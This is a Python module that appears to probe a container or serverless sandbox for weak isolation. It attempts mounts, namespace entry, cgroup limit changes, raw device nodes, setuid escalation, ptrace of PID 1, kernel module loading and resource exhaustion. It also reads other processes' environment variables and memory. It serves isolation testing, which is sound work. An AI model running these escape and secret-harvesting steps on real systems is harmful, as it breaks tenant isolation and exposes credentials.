"""Attempts on the kernel: privileges, namespaces, control groups, devices, objects that outlive or escape a process."""

import ctypes
import glob
import os
import signal
import socket
import subprocess
import time

from trying import CHILDREN, KEPT, attempt, call, encoded, in_child, libc, pids, read, until

NAMESPACES = {"user": 0x10000000, "mnt": 0x20000, "uts": 0x4000000, "ipc": 0x8000000, "pid": 0x20000000, "net": 0x40000000, "cgroup": 0x2000000}
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def mounts():
    """Every way to change what is mounted. Each leaves its mount where it is."""
    os.makedirs("/tmp/point", exist_ok=True)
    return {
        "mount": attempt(call, libc.mount, b"none", b"/tmp/point", b"tmpfs", 0, None),
        "bind": attempt(call, libc.mount, b"/", b"/tmp/point", None, 4096, None),
        "writable": attempt(call, libc.mount, None, b"/var/task", None, 32 | 4096, None),
        "proc": attempt(call, libc.mount, b"proc", b"/tmp/point", b"proc", 0, None),
        "unmounted": attempt(call, libc.umount2, b"/var/task", 2),
        "fsopen": attempt(mount_by_descriptor),
        "open_tree": attempt(move_tree),
        "pivot_root": attempt(call, "pivot_root", b"/tmp/point", b"/tmp/point"),
        "chroot": in_child(lambda: os.chroot("/tmp")),
        "in a user namespace": in_child(mount_in_namespace),
    }


def mount_by_descriptor():
    filesystem = call("fsopen", b"tmpfs", 0)
    call("fsconfig", filesystem, 6, None, None, 0)
    mount = call("fsmount", filesystem, 0, 0)
    return call("move_mount", mount, b"", -100, b"/tmp/point", 4)


def move_tree():
    tree = call("open_tree", -100, b"/", 1)
    return call("move_mount", tree, b"", -100, b"/tmp/point", 4)


def mount_in_namespace():
    call(libc.unshare, NAMESPACES["user"] | NAMESPACES["mnt"])
    return call(libc.mount, b"none", b"/tmp/point", b"tmpfs", 0, None)


def namespaces():
    """A child each that leaves one namespace, or is born in a new one, and stays to be looked at."""
    said = {name: in_child(lambda flag=flag: call(libc.unshare, flag)) for name, flag in NAMESPACES.items()}
    said["clone3"] = attempt(clone3, NAMESPACES["user"])
    for pid in pids():
        for name in NAMESPACES:
            said[f"setns {pid} {name}"] = attempt(enter, f"/proc/{pid}/ns/{name}")
    return said


def clone3(flags):
    arguments = (ctypes.c_uint64 * 11)(flags, 0, 0, 0, signal.SIGCHLD)
    child = call("clone3", arguments, ctypes.sizeof(arguments))
    if child == 0:
        time.sleep(1000)
    CHILDREN.append(child)
    return child


def enter(path):
    descriptor = os.open(path, os.O_RDONLY)
    KEPT.append(descriptor)
    return call(libc.setns, descriptor, 0)


def raise_limits():
    """The limits of its own control group, a group inside of it, and a program for the host to run when one is empty."""
    said = {}
    own = [line.rstrip("\n").split(":", 2)[2] for line in open("/proc/self/cgroup")]
    places = {"/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")}
    places |= {place + path for place in list(places) for path in own}
    for place in places:
        for name, value in (
            ("memory.memsw.limit_in_bytes", "8589934592"),
            ("memory.limit_in_bytes", "8589934592"),
            ("memory.max", "max"),
            ("memory.swap.max", "max"),
            ("pids.max", "max"),
            ("cpu.cfs_quota_us", "-1"),
            ("cpu.max", "max"),
            ("devices.allow", "a"),
            ("notify_on_release", "1"),
            ("cgroup.procs", "0"),
        ):
            said[f"{place}/{name}"] = attempt(overwrite, f"{place}/{name}", value)
        said[f"{place}/inside"] = attempt(os.mkdir, f"{place}/inside")
    return {name: result for name, result in said.items() if result != "ENOENT"}


def overwrite(path, value):
    descriptor = os.open(path, os.O_WRONLY)
    try:
        return os.write(descriptor, value.encode())
    finally:
        os.close(descriptor)


def devices():
    """Opens what a host's /dev may hold, and makes nodes of its own for what is missing."""
    said = {}
    nodes = {"mem": (0o20000, 1, 1), "kmsg": (0o20000, 1, 11), "kvm": (0o20000, 10, 232), "disk": (0o60000, 254, 0), "sda": (0o60000, 8, 0), "fuse": (0o20000, 10, 229), "tun": (0o20000, 10, 200)}
    for name, (kind, major, minor) in nodes.items():
        path = f"/tmp/{name}"
        said[f"mknod {name}"] = attempt(os.mknod, path, kind | 0o666, os.makedev(major, minor))
        said[f"node {name}"] = attempt(keep_open, path)
    for path in ("mem", "kmem", "port", "kvm", "kmsg", "vda", "sda", "nvme0n1", "loop-control", "loop0", "fuse", "net/tun", "vhost-vsock", "vsock", "vfio/vfio", "dri/card0", "mapper/control", "uinput", "userfaultfd"):
        said[path] = attempt(keep_open, f"/dev/{path}")
    return {name: result for name, result in said.items() if result != "ENOENT"}


def keep_open(path):
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    KEPT.append(descriptor)
    return descriptor


def become_root():
    """Sets ids, and runs the image's set-user-ID programs, which wait for input as whoever they are then."""
    said = {
        "setuid": in_child(lambda: os.setuid(0)),
        "setuid to another": in_child(lambda: os.setuid(1)),
        "setresuid": in_child(lambda: os.setresuid(0, 0, 0)),
        "setgroups": in_child(lambda: os.setgroups([0])),
    }
    for folder in ("/usr/bin", "/usr/sbin", "/usr/lib", "/usr/local/bin", "/var/runtime"):
        for top, _, names in os.walk(folder):
            for path in (os.path.join(top, name) for name in names):
                if os.lstat(path).st_mode & 0o6000:
                    said[path] = attempt(start_waiting, [path])
    with open("/tmp/shell", "wb") as copy, open("/bin/sleep", "rb") as original:
        copy.write(original.read())
    said["chown"] = attempt(os.chown, "/tmp/shell", 0, 0)
    said["chmod"] = attempt(os.chmod, "/tmp/shell", 0o6755)
    said["copy"] = attempt(start_waiting, ["/tmp/shell", "1000"])
    return said


def start_waiting(command):
    child = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    KEPT.append(child.stdin)
    CHILDREN.append(child.pid)
    until(lambda: child.poll() is not None, 0.3)
    return child.returncode if child.returncode is not None else "waits"


def look_into_processes():
    """What every process that can be seen keeps: its environment, its arguments, its memory."""
    found = []
    for pid in pids():
        for name in ("environ", "cmdline"):
            value = attempt(read, f"/proc/{pid}/{name}")
            if isinstance(value, bytes):
                found.append(encoded(value))
        if pid != os.getpid():
            found.append(str(attempt(read_memory, pid)))
    return found


def read_memory(pid):
    """The stack of a process, where its environment stands, by each of the ways there are."""
    stack = next(line for line in open(f"/proc/{pid}/maps") if "[stack]" in line)
    start, end = (int(part, 16) for part in stack.split()[0].split("-"))
    found = []
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(start)
        found.append(encoded(memory.read(end - start)))
    return found


def stop_process_one():
    """Traces the container's first process, which stops it, and goes away."""
    said = attempt(call, libc.ptrace, PTRACE_ATTACH, 1, None, None)
    attempt(os.waitpid, 1, os.WNOHANG)
    os._exit(int(said == 0))


def kernel_objects():
    """Descriptors for parts of the kernel that programs of a host attack it with."""
    attributes = ctypes.create_string_buffer(128)
    ctypes.memmove(attributes, (ctypes.c_uint32 * 5)(2, 4, 4, 1, 0), 20)
    said = {
        "bpf": keep(attempt(call, "bpf", 0, attributes, 72)),
        "userfaultfd": keep(attempt(call, "userfaultfd", 1)),
        "io_uring": keep(attempt(call, "io_uring_setup", 8, ctypes.create_string_buffer(120))),
        "perf": keep(attempt(call, "perf_event_open", perf_event(), 0, -1, -1, 0)),
        "fanotify": keep(attempt(call, libc.fanotify_init, 0, 0)),
    }
    return said


def perf_event():
    event = ctypes.create_string_buffer(128)
    ctypes.memmove(event, (ctypes.c_uint32 * 2)(1, 128), 8)
    return event


def keep(result):
    if isinstance(result, int):
        KEPT.append(result)
    return result


def load_code():
    """A module, another kernel."""
    return {
        "init_module": attempt(call, "init_module", b"\0" * 64, 64, b""),
        "finit_module": attempt(call, "finit_module", os.open("/etc/passwd", os.O_RDONLY), b"", 0),
        "kexec_load": attempt(call, "kexec_load", 0, 0, None, 0),
        "families": [str(attempt(socket.socket, family, socket.SOCK_SEQPACKET, 0)) for family in range(46)],
    }


def plant_key(name):
    """In every ring that belongs to the user rather than to the process."""
    rings = {"user": -4, "user session": -5, "session": -3}
    return {ring: attempt(call, "add_key", b"user", name.encode(), b"planted", 7, number) for ring, number in rings.items()}


def sockets():
    """A socket of every family, type and netlink protocol, all kept open."""
    said = {}
    for family in range(46):
        for kind in (1, 2, 3, 5):
            for protocol in range(23) if family == socket.AF_NETLINK else (0, 1, 768):
                opened = attempt(socket.socket, family, kind, protocol)
                if not isinstance(opened, str):
                    KEPT.append(opened)
                    said[f"{family} {kind} {protocol}"] = "opened"
    return said


def turn_clocks():
    """The time, the name, and the machine's power."""
    tomorrow = time.time() + 86_400
    return {
        "clock_settime": attempt(time.clock_settime, time.CLOCK_REALTIME, tomorrow),
        "adjtimex": attempt(call, libc.adjtimex, ctypes.create_string_buffer(b"\x01\x80" + b"\0" * 206, 208)),
        "sethostname": attempt(socket.sethostname, "planted"),
        # The harmless one of reboot's commands, in case it works.
        "reboot": attempt(call, libc.reboot, 0),
        "swapoff": attempt(call, libc.swapoff, b"/swapfile"),
    }


def take_limits_of_the_user():
    """What the kernel counts for a user and not for a container. How much of each was left."""
    instances = 0
    # Fewer than there may be descriptors.
    while instances < 500 and isinstance(keep(attempt(call, libc.inotify_init1, 0)), int):
        instances += 1
    return {"inotify": instances}
